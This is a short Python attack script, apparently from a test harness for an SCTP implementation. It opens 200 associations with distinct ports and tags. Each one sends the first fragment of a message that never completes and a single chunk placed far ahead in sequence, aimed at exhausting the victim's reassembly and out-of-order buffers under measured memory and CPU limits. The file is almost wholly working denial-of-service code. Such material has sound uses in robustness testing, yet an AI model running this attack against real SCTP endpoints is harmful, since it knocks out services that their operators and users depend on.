"""Associations that say little and stay: each sends one byte as far ahead as it may, and the beginning of
a message that never ends."""
from attack import main
from sctp import Peer, data

COUNT = 200


def play(victim):
    peer = Peer()
    for n in range(COUNT):
        peer.port, peer.tag = 1024 + n, 1 + n
        peer.connect()
        peer.send(data(peer.first + 1, b"x" * 1000, flags=2))
        peer.send(data(peer.first + 65_534, b"x", ssn=1))
        peer.drain()
    return COUNT


main(play, memory=96, most=128, cpu=3)
